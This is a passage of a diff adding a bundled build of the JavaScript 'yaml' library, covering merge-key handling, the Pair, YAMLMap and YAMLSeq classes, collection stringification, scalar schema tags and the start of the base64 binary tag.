+      if (logLevel === "debug")
+        console.log(...messages);
+    }
+    function warn(logLevel, warning2) {
+      if (logLevel === "debug" || logLevel === "warn") {
+        if (typeof node_process.emitWarning === "function")
+          node_process.emitWarning(warning2);
+        else
+          console.warn(warning2);
+      }
+    }
+    exports.debug = debug;
+    exports.warn = warn;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/merge.js
+var require_merge3 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/merge.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var MERGE_KEY = "<<";
+    var merge = {
+      identify: (value) => value === MERGE_KEY || typeof value === "symbol" && value.description === MERGE_KEY,
+      default: "key",
+      tag: "tag:yaml.org,2002:merge",
+      test: /^<<$/,
+      resolve: () => Object.assign(new Scalar.Scalar(Symbol(MERGE_KEY)), {
+        addToJSMap: addMergeToJSMap
+      }),
+      stringify: () => MERGE_KEY
+    };
+    var isMergeKey = (ctx, key) => (merge.identify(key) || identity3.isScalar(key) && (!key.type || key.type === Scalar.Scalar.PLAIN) && merge.identify(key.value)) && ctx?.doc.schema.tags.some((tag) => tag.tag === merge.tag && tag.default);
+    function addMergeToJSMap(ctx, map, value) {
+      const source = resolveAliasValue(ctx, value);
+      if (identity3.isSeq(source))
+        for (const it of source.items)
+          mergeValue(ctx, map, it);
+      else if (Array.isArray(source))
+        for (const it of source)
+          mergeValue(ctx, map, it);
+      else
+        mergeValue(ctx, map, source);
+    }
+    function mergeValue(ctx, map, value) {
+      const source = resolveAliasValue(ctx, value);
+      if (!identity3.isMap(source))
+        throw new Error("Merge sources must be maps or map aliases");
+      const srcMap = source.toJSON(null, ctx, Map);
+      for (const [key, value2] of srcMap) {
+        if (map instanceof Map) {
+          if (!map.has(key))
+            map.set(key, value2);
+        } else if (map instanceof Set) {
+          map.add(key);
+        } else if (!Object.prototype.hasOwnProperty.call(map, key)) {
+          Object.defineProperty(map, key, {
+            value: value2,
+            writable: true,
+            enumerable: true,
+            configurable: true
+          });
+        }
+      }
+      return map;
+    }
+    function resolveAliasValue(ctx, value) {
+      return ctx && identity3.isAlias(value) ? value.resolve(ctx.doc, ctx) : value;
+    }
+    exports.addMergeToJSMap = addMergeToJSMap;
+    exports.isMergeKey = isMergeKey;
+    exports.merge = merge;
+  }
+});
+
+// node_modules/yaml/dist/nodes/addPairToJSMap.js
+var require_addPairToJSMap = __commonJS({
+  "node_modules/yaml/dist/nodes/addPairToJSMap.js"(exports) {
+    "use strict";
+    var log2 = require_log();
+    var merge = require_merge3();
+    var stringify = require_stringify();
+    var identity3 = require_identity();
+    var toJS = require_toJS();
+    function addPairToJSMap(ctx, map, { key, value }) {
+      if (identity3.isNode(key) && key.addToJSMap)
+        key.addToJSMap(ctx, map, value);
+      else if (merge.isMergeKey(ctx, key))
+        merge.addMergeToJSMap(ctx, map, value);
+      else {
+        const jsKey = toJS.toJS(key, "", ctx);
+        if (map instanceof Map) {
+          map.set(jsKey, toJS.toJS(value, jsKey, ctx));
+        } else if (map instanceof Set) {
+          map.add(jsKey);
+        } else {
+          const stringKey = stringifyKey(key, jsKey, ctx);
+          const jsValue = toJS.toJS(value, stringKey, ctx);
+          if (stringKey in map)
+            Object.defineProperty(map, stringKey, {
+              value: jsValue,
+              writable: true,
+              enumerable: true,
+              configurable: true
+            });
+          else
+            map[stringKey] = jsValue;
+        }
+      }
+      return map;
+    }
+    function stringifyKey(key, jsKey, ctx) {
+      if (jsKey === null)
+        return "";
+      if (typeof jsKey !== "object")
+        return String(jsKey);
+      if (identity3.isNode(key) && ctx?.doc) {
+        const strCtx = stringify.createStringifyContext(ctx.doc, {});
+        strCtx.anchors = /* @__PURE__ */ new Set();
+        for (const node of ctx.anchors.keys())
+          strCtx.anchors.add(node.anchor);
+        strCtx.inFlow = true;
+        strCtx.inStringifyKey = true;
+        const strKey = key.toString(strCtx);
+        if (!ctx.mapKeyWarned) {
+          let jsonStr = JSON.stringify(strKey);
+          if (jsonStr.length > 40)
+            jsonStr = jsonStr.substring(0, 36) + '..."';
+          log2.warn(ctx.doc.options.logLevel, `Keys with collection values will be stringified due to JS Object restrictions: ${jsonStr}. Set mapAsMap: true to use object keys.`);
+          ctx.mapKeyWarned = true;
+        }
+        return strKey;
+      }
+      return JSON.stringify(jsKey);
+    }
+    exports.addPairToJSMap = addPairToJSMap;
+  }
+});
+
+// node_modules/yaml/dist/nodes/Pair.js
+var require_Pair = __commonJS({
+  "node_modules/yaml/dist/nodes/Pair.js"(exports) {
+    "use strict";
+    var createNode = require_createNode();
+    var stringifyPair = require_stringifyPair();
+    var addPairToJSMap = require_addPairToJSMap();
+    var identity3 = require_identity();
+    function createPair(key, value, ctx) {
+      const k = createNode.createNode(key, void 0, ctx);
+      const v = createNode.createNode(value, void 0, ctx);
+      return new Pair(k, v);
+    }
+    var Pair = class _Pair {
+      constructor(key, value = null) {
+        Object.defineProperty(this, identity3.NODE_TYPE, { value: identity3.PAIR });
+        this.key = key;
+        this.value = value;
+      }
+      clone(schema) {
+        let { key, value } = this;
+        if (identity3.isNode(key))
+          key = key.clone(schema);
+        if (identity3.isNode(value))
+          value = value.clone(schema);
+        return new _Pair(key, value);
+      }
+      toJSON(_, ctx) {
+        const pair = ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
+        return addPairToJSMap.addPairToJSMap(ctx, pair, this);
+      }
+      toString(ctx, onComment, onChompKeep) {
+        return ctx?.doc ? stringifyPair.stringifyPair(this, ctx, onComment, onChompKeep) : JSON.stringify(this);
+      }
+    };
+    exports.Pair = Pair;
+    exports.createPair = createPair;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyCollection.js
+var require_stringifyCollection = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyCollection.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var stringify = require_stringify();
+    var stringifyComment = require_stringifyComment();
+    function stringifyCollection(collection, ctx, options) {
+      const flow = ctx.inFlow ?? collection.flow;
+      const stringify2 = flow ? stringifyFlowCollection : stringifyBlockCollection;
+      return stringify2(collection, ctx, options);
+    }
+    function stringifyBlockCollection({ comment, items }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
+      const { indent, options: { commentString } } = ctx;
+      const itemCtx = Object.assign({}, ctx, { indent: itemIndent, type: null });
+      let chompKeep = false;
+      const lines = [];
+      for (let i3 = 0; i3 < items.length; ++i3) {
+        const item = items[i3];
+        let comment2 = null;
+        if (identity3.isNode(item)) {
+          if (!chompKeep && item.spaceBefore)
+            lines.push("");
+          addCommentBefore(ctx, lines, item.commentBefore, chompKeep);
+          if (item.comment)
+            comment2 = item.comment;
+        } else if (identity3.isPair(item)) {
+          const ik = identity3.isNode(item.key) ? item.key : null;
+          if (ik) {
+            if (!chompKeep && ik.spaceBefore)
+              lines.push("");
+            addCommentBefore(ctx, lines, ik.commentBefore, chompKeep);
+          }
+        }
+        chompKeep = false;
+        let str3 = stringify.stringify(item, itemCtx, () => comment2 = null, () => chompKeep = true);
+        if (comment2)
+          str3 += stringifyComment.lineComment(str3, itemIndent, commentString(comment2));
+        if (chompKeep && comment2)
+          chompKeep = false;
+        lines.push(blockItemPrefix + str3);
+      }
+      let str2;
+      if (lines.length === 0) {
+        str2 = flowChars.start + flowChars.end;
+      } else {
+        str2 = lines[0];
+        for (let i3 = 1; i3 < lines.length; ++i3) {
+          const line = lines[i3];
+          str2 += line ? `
+${indent}${line}` : "\n";
+        }
+      }
+      if (comment) {
+        str2 += "\n" + stringifyComment.indentComment(commentString(comment), indent);
+        if (onComment)
+          onComment();
+      } else if (chompKeep && onChompKeep)
+        onChompKeep();
+      return str2;
+    }
+    function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
+      const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
+      itemIndent += indentStep;
+      const itemCtx = Object.assign({}, ctx, {
+        indent: itemIndent,
+        inFlow: true,
+        type: null
+      });
+      let reqNewline = false;
+      let linesAtValue = 0;
+      const lines = [];
+      for (let i3 = 0; i3 < items.length; ++i3) {
+        const item = items[i3];
+        let comment = null;
+        if (identity3.isNode(item)) {
+          if (item.spaceBefore)
+            lines.push("");
+          addCommentBefore(ctx, lines, item.commentBefore, false);
+          if (item.comment)
+            comment = item.comment;
+        } else if (identity3.isPair(item)) {
+          const ik = identity3.isNode(item.key) ? item.key : null;
+          if (ik) {
+            if (ik.spaceBefore)
+              lines.push("");
+            addCommentBefore(ctx, lines, ik.commentBefore, false);
+            if (ik.comment)
+              reqNewline = true;
+          }
+          const iv = identity3.isNode(item.value) ? item.value : null;
+          if (iv) {
+            if (iv.comment)
+              comment = iv.comment;
+            if (iv.commentBefore)
+              reqNewline = true;
+          } else if (item.value == null && ik?.comment) {
+            comment = ik.comment;
+          }
+        }
+        if (comment)
+          reqNewline = true;
+        let str2 = stringify.stringify(item, itemCtx, () => comment = null);
+        reqNewline || (reqNewline = lines.length > linesAtValue || str2.includes("\n"));
+        if (i3 < items.length - 1) {
+          str2 += ",";
+        } else if (ctx.options.trailingComma) {
+          if (ctx.options.lineWidth > 0) {
+            reqNewline || (reqNewline = lines.reduce((sum, line) => sum + line.length + 2, 2) + (str2.length + 2) > ctx.options.lineWidth);
+          }
+          if (reqNewline) {
+            str2 += ",";
+          }
+        }
+        if (comment)
+          str2 += stringifyComment.lineComment(str2, itemIndent, commentString(comment));
+        lines.push(str2);
+        linesAtValue = lines.length;
+      }
+      const { start: start2, end } = flowChars;
+      if (lines.length === 0) {
+        return start2 + end;
+      } else {
+        if (!reqNewline) {
+          const len = lines.reduce((sum, line) => sum + line.length + 2, 2);
+          reqNewline = ctx.options.lineWidth > 0 && len > ctx.options.lineWidth;
+        }
+        if (reqNewline) {
+          let str2 = start2;
+          for (const line of lines)
+            str2 += line ? `
+${indentStep}${indent}${line}` : "\n";
+          return `${str2}
+${indent}${end}`;
+        } else {
+          return `${start2}${fcPadding}${lines.join(" ")}${fcPadding}${end}`;
+        }
+      }
+    }
+    function addCommentBefore({ indent, options: { commentString } }, lines, comment, chompKeep) {
+      if (comment && chompKeep)
+        comment = comment.replace(/^\n+/, "");
+      if (comment) {
+        const ic = stringifyComment.indentComment(commentString(comment), indent);
+        lines.push(ic.trimStart());
+      }
+    }
+    exports.stringifyCollection = stringifyCollection;
+  }
+});
+
+// node_modules/yaml/dist/nodes/YAMLMap.js
+var require_YAMLMap = __commonJS({
+  "node_modules/yaml/dist/nodes/YAMLMap.js"(exports) {
+    "use strict";
+    var stringifyCollection = require_stringifyCollection();
+    var addPairToJSMap = require_addPairToJSMap();
+    var Collection = require_Collection();
+    var identity3 = require_identity();
+    var Pair = require_Pair();
+    var Scalar = require_Scalar();
+    function findPair(items, key) {
+      const k = identity3.isScalar(key) ? key.value : key;
+      for (const it of items) {
+        if (identity3.isPair(it)) {
+          if (it.key === key || it.key === k)
+            return it;
+          if (identity3.isScalar(it.key) && it.key.value === k)
+            return it;
+        }
+      }
+      return void 0;
+    }
+    var YAMLMap = class extends Collection.Collection {
+      static get tagName() {
+        return "tag:yaml.org,2002:map";
+      }
+      constructor(schema) {
+        super(identity3.MAP, schema);
+        this.items = [];
+      }
+      /**
+       * A generic collection parsing method that can be extended
+       * to other node classes that inherit from YAMLMap
+       */
+      static from(schema, obj, ctx) {
+        const { keepUndefined, replacer } = ctx;
+        const map = new this(schema);
+        const add = (key, value) => {
+          if (typeof replacer === "function")
+            value = replacer.call(obj, key, value);
+          else if (Array.isArray(replacer) && !replacer.includes(key))
+            return;
+          if (value !== void 0 || keepUndefined)
+            map.items.push(Pair.createPair(key, value, ctx));
+        };
+        if (obj instanceof Map) {
+          for (const [key, value] of obj)
+            add(key, value);
+        } else if (obj && typeof obj === "object") {
+          for (const key of Object.keys(obj))
+            add(key, obj[key]);
+        }
+        if (typeof schema.sortMapEntries === "function") {
+          map.items.sort(schema.sortMapEntries);
+        }
+        return map;
+      }
+      /**
+       * Adds a value to the collection.
+       *
+       * @param overwrite - If not set `true`, using a key that is already in the
+       *   collection will throw. Otherwise, overwrites the previous value.
+       */
+      add(pair, overwrite) {
+        let _pair;
+        if (identity3.isPair(pair))
+          _pair = pair;
+        else if (!pair || typeof pair !== "object" || !("key" in pair)) {
+          _pair = new Pair.Pair(pair, pair?.value);
+        } else
+          _pair = new Pair.Pair(pair.key, pair.value);
+        const prev = findPair(this.items, _pair.key);
+        const sortEntries = this.schema?.sortMapEntries;
+        if (prev) {
+          if (!overwrite)
+            throw new Error(`Key ${_pair.key} already set`);
+          if (identity3.isScalar(prev.value) && Scalar.isScalarValue(_pair.value))
+            prev.value.value = _pair.value;
+          else
+            prev.value = _pair.value;
+        } else if (sortEntries) {
+          const i3 = this.items.findIndex((item) => sortEntries(_pair, item) < 0);
+          if (i3 === -1)
+            this.items.push(_pair);
+          else
+            this.items.splice(i3, 0, _pair);
+        } else {
+          this.items.push(_pair);
+        }
+      }
+      delete(key) {
+        const it = findPair(this.items, key);
+        if (!it)
+          return false;
+        const del = this.items.splice(this.items.indexOf(it), 1);
+        return del.length > 0;
+      }
+      get(key, keepScalar) {
+        const it = findPair(this.items, key);
+        const node = it?.value;
+        return (!keepScalar && identity3.isScalar(node) ? node.value : node) ?? void 0;
+      }
+      has(key) {
+        return !!findPair(this.items, key);
+      }
+      set(key, value) {
+        this.add(new Pair.Pair(key, value), true);
+      }
+      /**
+       * @param ctx - Conversion context, originally set in Document#toJS()
+       * @param {Class} Type - If set, forces the returned collection type
+       * @returns Instance of Type, Map, or Object
+       */
+      toJSON(_, ctx, Type) {
+        const map = Type ? new Type() : ctx?.mapAsMap ? /* @__PURE__ */ new Map() : {};
+        if (ctx?.onCreate)
+          ctx.onCreate(map);
+        for (const item of this.items)
+          addPairToJSMap.addPairToJSMap(ctx, map, item);
+        return map;
+      }
+      toString(ctx, onComment, onChompKeep) {
+        if (!ctx)
+          return JSON.stringify(this);
+        for (const item of this.items) {
+          if (!identity3.isPair(item))
+            throw new Error(`Map items must all be pairs; found ${JSON.stringify(item)} instead`);
+        }
+        if (!ctx.allNullValues && this.hasAllNullValues(false))
+          ctx = Object.assign({}, ctx, { allNullValues: true });
+        return stringifyCollection.stringifyCollection(this, ctx, {
+          blockItemPrefix: "",
+          flowChars: { start: "{", end: "}" },
+          itemIndent: ctx.indent || "",
+          onChompKeep,
+          onComment
+        });
+      }
+    };
+    exports.YAMLMap = YAMLMap;
+    exports.findPair = findPair;
+  }
+});
+
+// node_modules/yaml/dist/schema/common/map.js
+var require_map2 = __commonJS({
+  "node_modules/yaml/dist/schema/common/map.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var YAMLMap = require_YAMLMap();
+    var map = {
+      collection: "map",
+      default: true,
+      nodeClass: YAMLMap.YAMLMap,
+      tag: "tag:yaml.org,2002:map",
+      resolve(map2, onError) {
+        if (!identity3.isMap(map2))
+          onError("Expected a mapping for this tag");
+        return map2;
+      },
+      createNode: (schema, obj, ctx) => YAMLMap.YAMLMap.from(schema, obj, ctx)
+    };
+    exports.map = map;
+  }
+});
+
+// node_modules/yaml/dist/nodes/YAMLSeq.js
+var require_YAMLSeq = __commonJS({
+  "node_modules/yaml/dist/nodes/YAMLSeq.js"(exports) {
+    "use strict";
+    var createNode = require_createNode();
+    var stringifyCollection = require_stringifyCollection();
+    var Collection = require_Collection();
+    var identity3 = require_identity();
+    var Scalar = require_Scalar();
+    var toJS = require_toJS();
+    var YAMLSeq = class extends Collection.Collection {
+      static get tagName() {
+        return "tag:yaml.org,2002:seq";
+      }
+      constructor(schema) {
+        super(identity3.SEQ, schema);
+        this.items = [];
+      }
+      add(value) {
+        this.items.push(value);
+      }
+      /**
+       * Removes a value from the collection.
+       *
+       * `key` must contain a representation of an integer for this to succeed.
+       * It may be wrapped in a `Scalar`.
+       *
+       * @returns `true` if the item was found and removed.
+       */
+      delete(key) {
+        const idx = asItemIndex(key);
+        if (typeof idx !== "number")
+          return false;
+        const del = this.items.splice(idx, 1);
+        return del.length > 0;
+      }
+      get(key, keepScalar) {
+        const idx = asItemIndex(key);
+        if (typeof idx !== "number")
+          return void 0;
+        const it = this.items[idx];
+        return !keepScalar && identity3.isScalar(it) ? it.value : it;
+      }
+      /**
+       * Checks if the collection includes a value with the key `key`.
+       *
+       * `key` must contain a representation of an integer for this to succeed.
+       * It may be wrapped in a `Scalar`.
+       */
+      has(key) {
+        const idx = asItemIndex(key);
+        return typeof idx === "number" && idx < this.items.length;
+      }
+      /**
+       * Sets a value in this collection. For `!!set`, `value` needs to be a
+       * boolean to add/remove the item from the set.
+       *
+       * If `key` does not contain a representation of an integer, this will throw.
+       * It may be wrapped in a `Scalar`.
+       */
+      set(key, value) {
+        const idx = asItemIndex(key);
+        if (typeof idx !== "number")
+          throw new Error(`Expected a valid index, not ${key}.`);
+        const prev = this.items[idx];
+        if (identity3.isScalar(prev) && Scalar.isScalarValue(value))
+          prev.value = value;
+        else
+          this.items[idx] = value;
+      }
+      toJSON(_, ctx) {
+        const seq = [];
+        if (ctx?.onCreate)
+          ctx.onCreate(seq);
+        let i3 = 0;
+        for (const item of this.items)
+          seq.push(toJS.toJS(item, String(i3++), ctx));
+        return seq;
+      }
+      toString(ctx, onComment, onChompKeep) {
+        if (!ctx)
+          return JSON.stringify(this);
+        return stringifyCollection.stringifyCollection(this, ctx, {
+          blockItemPrefix: "- ",
+          flowChars: { start: "[", end: "]" },
+          itemIndent: (ctx.indent || "") + "  ",
+          onChompKeep,
+          onComment
+        });
+      }
+      static from(schema, obj, ctx) {
+        const { replacer } = ctx;
+        const seq = new this(schema);
+        if (obj && Symbol.iterator in Object(obj)) {
+          let i3 = 0;
+          for (let it of obj) {
+            if (typeof replacer === "function") {
+              const key = obj instanceof Set ? it : String(i3++);
+              it = replacer.call(obj, key, it);
+            }
+            seq.items.push(createNode.createNode(it, void 0, ctx));
+          }
+        }
+        return seq;
+      }
+    };
+    function asItemIndex(key) {
+      let idx = identity3.isScalar(key) ? key.value : key;
+      if (idx && typeof idx === "string")
+        idx = Number(idx);
+      return typeof idx === "number" && Number.isInteger(idx) && idx >= 0 ? idx : null;
+    }
+    exports.YAMLSeq = YAMLSeq;
+  }
+});
+
+// node_modules/yaml/dist/schema/common/seq.js
+var require_seq2 = __commonJS({
+  "node_modules/yaml/dist/schema/common/seq.js"(exports) {
+    "use strict";
+    var identity3 = require_identity();
+    var YAMLSeq = require_YAMLSeq();
+    var seq = {
+      collection: "seq",
+      default: true,
+      nodeClass: YAMLSeq.YAMLSeq,
+      tag: "tag:yaml.org,2002:seq",
+      resolve(seq2, onError) {
+        if (!identity3.isSeq(seq2))
+          onError("Expected a sequence for this tag");
+        return seq2;
+      },
+      createNode: (schema, obj, ctx) => YAMLSeq.YAMLSeq.from(schema, obj, ctx)
+    };
+    exports.seq = seq;
+  }
+});
+
+// node_modules/yaml/dist/schema/common/string.js
+var require_string = __commonJS({
+  "node_modules/yaml/dist/schema/common/string.js"(exports) {
+    "use strict";
+    var stringifyString = require_stringifyString();
+    var string = {
+      identify: (value) => typeof value === "string",
+      default: true,
+      tag: "tag:yaml.org,2002:str",
+      resolve: (str2) => str2,
+      stringify(item, ctx, onComment, onChompKeep) {
+        ctx = Object.assign({ actualString: true }, ctx);
+        return stringifyString.stringifyString(item, ctx, onComment, onChompKeep);
+      }
+    };
+    exports.string = string;
+  }
+});
+
+// node_modules/yaml/dist/schema/common/null.js
+var require_null2 = __commonJS({
+  "node_modules/yaml/dist/schema/common/null.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var nullTag = {
+      identify: (value) => value == null,
+      createNode: () => new Scalar.Scalar(null),
+      default: true,
+      tag: "tag:yaml.org,2002:null",
+      test: /^(?:~|[Nn]ull|NULL)?$/,
+      resolve: () => new Scalar.Scalar(null),
+      stringify: ({ source }, ctx) => typeof source === "string" && nullTag.test.test(source) ? source : ctx.options.nullStr
+    };
+    exports.nullTag = nullTag;
+  }
+});
+
+// node_modules/yaml/dist/schema/core/bool.js
+var require_bool2 = __commonJS({
+  "node_modules/yaml/dist/schema/core/bool.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var boolTag = {
+      identify: (value) => typeof value === "boolean",
+      default: true,
+      tag: "tag:yaml.org,2002:bool",
+      test: /^(?:[Tt]rue|TRUE|[Ff]alse|FALSE)$/,
+      resolve: (str2) => new Scalar.Scalar(str2[0] === "t" || str2[0] === "T"),
+      stringify({ source, value }, ctx) {
+        if (source && boolTag.test.test(source)) {
+          const sv = source[0] === "t" || source[0] === "T";
+          if (value === sv)
+            return source;
+        }
+        return value ? ctx.options.trueStr : ctx.options.falseStr;
+      }
+    };
+    exports.boolTag = boolTag;
+  }
+});
+
+// node_modules/yaml/dist/stringify/stringifyNumber.js
+var require_stringifyNumber = __commonJS({
+  "node_modules/yaml/dist/stringify/stringifyNumber.js"(exports) {
+    "use strict";
+    function stringifyNumber({ format: format2, minFractionDigits, tag, value }) {
+      if (typeof value === "bigint")
+        return String(value);
+      const num = typeof value === "number" ? value : Number(value);
+      if (!isFinite(num))
+        return isNaN(num) ? ".nan" : num < 0 ? "-.inf" : ".inf";
+      let n2 = Object.is(value, -0) ? "-0" : JSON.stringify(value);
+      if (!format2 && minFractionDigits && (!tag || tag === "tag:yaml.org,2002:float") && /^-?\d/.test(n2) && !n2.includes("e")) {
+        let i3 = n2.indexOf(".");
+        if (i3 < 0) {
+          i3 = n2.length;
+          n2 += ".";
+        }
+        let d = minFractionDigits - (n2.length - i3 - 1);
+        while (d-- > 0)
+          n2 += "0";
+      }
+      return n2;
+    }
+    exports.stringifyNumber = stringifyNumber;
+  }
+});
+
+// node_modules/yaml/dist/schema/core/float.js
+var require_float2 = __commonJS({
+  "node_modules/yaml/dist/schema/core/float.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var stringifyNumber = require_stringifyNumber();
+    var floatNaN = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      test: /^(?:[-+]?\.(?:inf|Inf|INF)|\.nan|\.NaN|\.NAN)$/,
+      resolve: (str2) => str2.slice(-3).toLowerCase() === "nan" ? NaN : str2[0] === "-" ? Number.NEGATIVE_INFINITY : Number.POSITIVE_INFINITY,
+      stringify: stringifyNumber.stringifyNumber
+    };
+    var floatExp = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      format: "EXP",
+      test: /^[-+]?(?:\.[0-9]+|[0-9]+(?:\.[0-9]*)?)[eE][-+]?[0-9]+$/,
+      resolve: (str2) => parseFloat(str2),
+      stringify(node) {
+        const num = Number(node.value);
+        return isFinite(num) ? num.toExponential() : stringifyNumber.stringifyNumber(node);
+      }
+    };
+    var float = {
+      identify: (value) => typeof value === "number",
+      default: true,
+      tag: "tag:yaml.org,2002:float",
+      test: /^[-+]?(?:\.[0-9]+|[0-9]+\.[0-9]*)$/,
+      resolve(str2) {
+        const node = new Scalar.Scalar(parseFloat(str2));
+        const dot = str2.indexOf(".");
+        if (dot !== -1 && str2[str2.length - 1] === "0")
+          node.minFractionDigits = str2.length - dot - 1;
+        return node;
+      },
+      stringify: stringifyNumber.stringifyNumber
+    };
+    exports.float = float;
+    exports.floatExp = floatExp;
+    exports.floatNaN = floatNaN;
+  }
+});
+
+// node_modules/yaml/dist/schema/core/int.js
+var require_int2 = __commonJS({
+  "node_modules/yaml/dist/schema/core/int.js"(exports) {
+    "use strict";
+    var stringifyNumber = require_stringifyNumber();
+    var intIdentify = (value) => typeof value === "bigint" || Number.isInteger(value);
+    var intResolve = (str2, offset, radix, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2.substring(offset), radix);
+    function intStringify(node, radix, prefix) {
+      const { value } = node;
+      if (intIdentify(value) && value >= 0)
+        return prefix + value.toString(radix);
+      return stringifyNumber.stringifyNumber(node);
+    }
+    var intOct = {
+      identify: (value) => intIdentify(value) && value >= 0,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "OCT",
+      test: /^0o[0-7]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 8, opt),
+      stringify: (node) => intStringify(node, 8, "0o")
+    };
+    var int = {
+      identify: intIdentify,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      test: /^[-+]?[0-9]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 0, 10, opt),
+      stringify: stringifyNumber.stringifyNumber
+    };
+    var intHex = {
+      identify: (value) => intIdentify(value) && value >= 0,
+      default: true,
+      tag: "tag:yaml.org,2002:int",
+      format: "HEX",
+      test: /^0x[0-9a-fA-F]+$/,
+      resolve: (str2, _onError, opt) => intResolve(str2, 2, 16, opt),
+      stringify: (node) => intStringify(node, 16, "0x")
+    };
+    exports.int = int;
+    exports.intHex = intHex;
+    exports.intOct = intOct;
+  }
+});
+
+// node_modules/yaml/dist/schema/core/schema.js
+var require_schema2 = __commonJS({
+  "node_modules/yaml/dist/schema/core/schema.js"(exports) {
+    "use strict";
+    var map = require_map2();
+    var _null = require_null2();
+    var seq = require_seq2();
+    var string = require_string();
+    var bool2 = require_bool2();
+    var float = require_float2();
+    var int = require_int2();
+    var schema = [
+      map.map,
+      seq.seq,
+      string.string,
+      _null.nullTag,
+      bool2.boolTag,
+      int.intOct,
+      int.int,
+      int.intHex,
+      float.floatNaN,
+      float.floatExp,
+      float.float
+    ];
+    exports.schema = schema;
+  }
+});
+
+// node_modules/yaml/dist/schema/json/schema.js
+var require_schema3 = __commonJS({
+  "node_modules/yaml/dist/schema/json/schema.js"(exports) {
+    "use strict";
+    var Scalar = require_Scalar();
+    var map = require_map2();
+    var seq = require_seq2();
+    function intIdentify(value) {
+      return typeof value === "bigint" || Number.isInteger(value);
+    }
+    var stringifyJSON = ({ value }) => JSON.stringify(value);
+    var jsonScalars = [
+      {
+        identify: (value) => typeof value === "string",
+        default: true,
+        tag: "tag:yaml.org,2002:str",
+        resolve: (str2) => str2,
+        stringify: stringifyJSON
+      },
+      {
+        identify: (value) => value == null,
+        createNode: () => new Scalar.Scalar(null),
+        default: true,
+        tag: "tag:yaml.org,2002:null",
+        test: /^null$/,
+        resolve: () => null,
+        stringify: stringifyJSON
+      },
+      {
+        identify: (value) => typeof value === "boolean",
+        default: true,
+        tag: "tag:yaml.org,2002:bool",
+        test: /^true$|^false$/,
+        resolve: (str2) => str2 === "true",
+        stringify: stringifyJSON
+      },
+      {
+        identify: intIdentify,
+        default: true,
+        tag: "tag:yaml.org,2002:int",
+        test: /^-?(?:0|[1-9][0-9]*)$/,
+        resolve: (str2, _onError, { intAsBigInt }) => intAsBigInt ? BigInt(str2) : parseInt(str2, 10),
+        stringify: ({ value }) => intIdentify(value) ? value.toString() : JSON.stringify(value)
+      },
+      {
+        identify: (value) => typeof value === "number",
+        default: true,
+        tag: "tag:yaml.org,2002:float",
+        test: /^-?(?:0|[1-9][0-9]*)(?:\.[0-9]*)?(?:[eE][-+]?[0-9]+)?$/,
+        resolve: (str2) => parseFloat(str2),
+        stringify: stringifyJSON
+      }
+    ];
+    var jsonError = {
+      default: true,
+      tag: "",
+      test: /^/,
+      resolve(str2, onError) {
+        onError(`Unresolved plain scalar ${JSON.stringify(str2)}`);
+        return str2;
+      }
+    };
+    var schema = [map.map, seq.seq].concat(jsonScalars, jsonError);
+    exports.schema = schema;
+  }
+});
+
+// node_modules/yaml/dist/schema/yaml-1.1/binary.js
+var require_binary2 = __commonJS({
+  "node_modules/yaml/dist/schema/yaml-1.1/binary.js"(exports) {
+    "use strict";
+    var node_buffer = __require("buffer");
+    var Scalar = require_Scalar();
+    var stringifyString = require_stringifyString();
+    var binary2 = {
+      identify: (value) => value instanceof Uint8Array,
+      // Buffer inherits from Uint8Array
+      default: false,
+      tag: "tag:yaml.org,2002:binary",
+      /**
+       * Returns a Buffer in node and an Uint8Array in browsers
+       *
+       * To use the resulting buffer as an image, you'll want to do something like:
+       *
+       *   const blob = new Blob([buffer], { type: 'image/jpeg' })
+       *   document.querySelector('#photo').src = URL.createObjectURL(blob)
+       */
+      resolve(src, onError) {
+        if (typeof node_buffer.Buffer === "function") {
+          return node_buffer.Buffer.from(src, "base64");
+        } else if (typeof atob === "function") {
+          const str2 = atob(src.replace(/[\n\r]/g, ""));
+          const buffer = new Uint8Array(str2.length);
+          for (let i3 = 0; i3 < str2.length; ++i3)
+            buffer[i3] = str2.charCodeAt(i3);
+          return buffer;
+        } else {
+          onError("This environment does not support reading binary tags; either Buffer or atob is required");
+          return src;
+        }
+      },
+      stringify({ comment, type, value }, ctx, onComment, onChompKeep) {
+        if (!value)
+          return "";
+        const buf = value;
+        let str2;
+        if (typeof node_buffer.Buffer === "function") {
+          str2 = buf instanceof node_buffer.Buffer ? buf.toString("base64") : node_buffer.Buffer.from(buf.buffer).toString("base64");
+        } else if (typeof btoa === "function") {
+          let s = "";
+          for (let i3 = 0; i3 < buf.length; ++i3)
+            s += String.fromCharCode(buf[i3]);
+          str2 = btoa(s);
+        } else {
+          throw new Error("This environment does not support writing binary tags; either Buffer or btoa is required");
+        }
+        type ?? (type = Scalar.Scalar.BLOCK_LITERAL);
+        if (type !== Scalar.Scalar.QUOTE_DOUBLE) {
+          const lineWidth = Math.max(ctx.options.lineWidth - ctx.indent.length, ctx.options.minContentWidth);
+          const n2 = Math.ceil(str2.length / lineWidth);
+          const lines = new Array(n2);
+          for (let i3 = 0, o2 = 0; i3 < n2; ++i3, o2 += lineWidth) {
+            lines[i3] = str2.substr(o2, lineWidth);
+          }
+          str2 = lines.join(type === Scalar.Scalar.BLOCK_LITERAL ? "\n" : " ");
+        }
